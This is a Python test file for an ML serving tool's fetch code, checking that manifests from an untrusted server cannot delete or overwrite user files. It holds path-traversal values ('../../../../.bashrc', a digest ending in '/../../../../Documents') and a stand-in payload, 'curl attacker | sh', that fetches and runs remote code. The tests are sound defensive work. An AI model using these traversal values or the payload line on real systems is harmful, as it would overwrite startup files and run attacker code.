"""Folders on an untrusted server: opening one reads it or fails, and never changes the user's files."""

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest
from support.fakes import LoopbackServer
from support.hostile import DIGEST, file_entry, is_untouched, manifest, replies, shard_entry, signed, victim

from infra.artifacts import Manifest
from infra.errors import InputError, IntegrityError
from infra.settings import Settings
from tasks.references.generator import generator_folder
from tasks.references.types import DatabaseVersion, Generator
from tasks.serve.load import load_pipeline, search_database

ENCODER = {"name": "made", "weights_digest": "w" * 64, "preprocess_digest": "p" * 64, "dimension": 16}
PAYLOAD = b"curl attacker | sh"


@pytest.fixture
def settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    """Settings with the cache at its default location below a home folder."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("MLFLOW_DISABLE_TELEMETRY", "true")
    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path}/mlflow.db")
    return Settings(root=str(tmp_path / "root"), cache=tmp_path / "home" / ".cache" / "knn-diffusion")


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def database_pages(server: LoopbackServer, hidden: dict[str, Any]) -> dict[str, bytes]:
    """Return the files of a database of one row on ``server``; ``hidden`` is the entry of its hidden-rows file."""
    rows = shard_entry("00000", file_entry("img_emb/img_emb_00000.npy"), rows=1)
    embeddings = signed(manifest("embeddings", rows, identity={"encoder": ENCODER}))
    shards = [
        shard_entry("00000", file_entry("index/00000.faiss"), rows=1, info={"members": ["00000"], "ordinal": 0}),
        shard_entry("quantizer", file_entry("quantizer.faiss"), rows=0),
        shard_entry("rows-hidden", hidden, rows=0),
    ]
    source = {"uri": server.url("/emb"), "digest": json.loads(embeddings)["digest"]}
    database = manifest(
        "database",
        *shards,
        inputs={"embeddings": source},
        identity={"encoder": ENCODER},
        info={"effort": {"nprobe": 1, "candidates": 10}, "hidden": 0},
    )
    return {"/emb/manifest.json": embeddings, "/db/manifest.json": signed(database), "/db/hidden.npy": b"anything"}


def test_search_with_path_as_digest_deletes_nothing(settings: Settings, tmp_path: Path) -> None:
    documents = victim(tmp_path / "home" / "Documents")
    digest = "0" * 64 + "/../../../../Documents"  # <cache>/fetching/<digest> is emptied after use
    with LoopbackServer({}) as server:
        server.replies.update(replies(database_pages(server, file_entry("hidden.npy", sha256=digest))))
        with pytest.raises(IntegrityError, match="64 lower-case hexadecimal digits") as caught:
            search_database(server.url("/db"), "a house", 3, settings)
    assert "\n" not in str(caught.value)
    assert is_untouched(documents)


def test_search_with_symlinked_cache_deletes_nothing(settings: Settings, tmp_path: Path) -> None:
    documents, disk, data = victim(tmp_path / "home" / "Documents"), tmp_path / "disk", b"anything"
    (disk / "fetching").mkdir(parents=True)
    settings.cache_folder.parent.mkdir(parents=True)
    settings.cache_folder.symlink_to(disk)
    (disk / "fetching" / sha(data)).symlink_to(documents)
    with LoopbackServer({}) as server:
        server.replies.update(replies(database_pages(server, file_entry("hidden.npy", sha256=sha(data)))))
        with pytest.raises(InputError, match="is not below"):
            search_database(server.url("/db"), "a house", 3, settings, trust=True)
    assert is_untouched(documents)


def test_load_pipeline_with_file_name_outside_cache_overwrites_nothing(settings: Settings, tmp_path: Path) -> None:
    startup = tmp_path / "home" / ".bashrc"
    startup.parent.mkdir()
    startup.write_text("export EDITOR=vi")
    # Relative to <cache>/generators/<digest>; the server has a file at this path.
    name = "../../../../.bashrc"
    files = [file_entry("pipeline/model_index.json", sha256=sha(b"{}"), bytes=2)]
    files.append(file_entry(name, sha256=sha(PAYLOAD), bytes=len(PAYLOAD)))
    generator = manifest("generator", shard_entry("pipeline", *files, rows=0), identity={"encoder": ENCODER})
    pages = {
        "/gen/manifest.json": signed(generator),
        "/gen/pipeline/model_index.json": b"{}",
        f"/gen/{name}": PAYLOAD,
        "/.bashrc": PAYLOAD,
    }
    with (
        LoopbackServer(replies(pages)) as server,
        pytest.raises(IntegrityError, match=r"a file name must be a relative path without '\.\.'"),
    ):
        load_pipeline(server.url("/gen"), "nothing", settings)
    assert startup.read_text() == "export EDITOR=vi"


def test_generator_folder_of_remote_generator_is_inside_the_cache(tmp_path: Path) -> None:
    data = {"pipeline/model_index.json": b"{}", "pipeline/unet/config.json": b'{"a": 1}'}
    files = [file_entry(name, sha256=sha(body), bytes=len(body)) for name, body in data.items()]
    pages = {f"/gen/{name}": body for name, body in data.items()}
    pages["/gen/manifest.json"] = signed(manifest("generator", shard_entry("pipeline", *files, rows=0)))
    cache = tmp_path / "cache"
    with LoopbackServer(replies(pages)) as server:
        folder = generator_folder(Generator.open(server.url("/gen")), cache)
    assert cache in folder.parents
    assert {path.relative_to(folder).as_posix() for path in folder.rglob("*.json")} == {
        "model_index.json",
        "unet/config.json",
    }


@pytest.mark.parametrize(
    "info",
    [
        {"effort": {"nprobe": "many", "candidates": 10}},
        {"effort": {"nprobe": 0, "candidates": 10}},
        {"effort": {"nprobe": True, "candidates": 10}},
        {"effort": [1, 2]},
        {"effort": {"nprobe": 1, "candidates": 10}, "hidden": -1},
        {"effort": {"nprobe": 1, "candidates": 10}, "hidden": 1e300},
    ],
)
def test_database_version_with_invalid_info_raises_one_line_error(info: dict[str, Any], tmp_path: Path) -> None:
    fields = manifest("database", identity={"encoder": ENCODER}, info=info)
    parsed = Manifest.from_json(signed(fields), "here")
    with pytest.raises(IntegrityError, match=r"^http://host/db has an unusable manifest field 'info\..*run again$"):
        DatabaseVersion.of(parsed, "http://host/db")


@pytest.mark.parametrize("encoder", [None, {}, {**ENCODER, "dimension": -1}, {**ENCODER, "name": 5}, DIGEST])
def test_database_version_with_invalid_encoder_raises(encoder: Any) -> None:
    parsed = Manifest.from_json(signed(manifest("database", identity={"encoder": encoder})), "here")
    with pytest.raises(IntegrityError, match="unusable manifest field 'identity"):
        DatabaseVersion.of(parsed, "http://host/db")
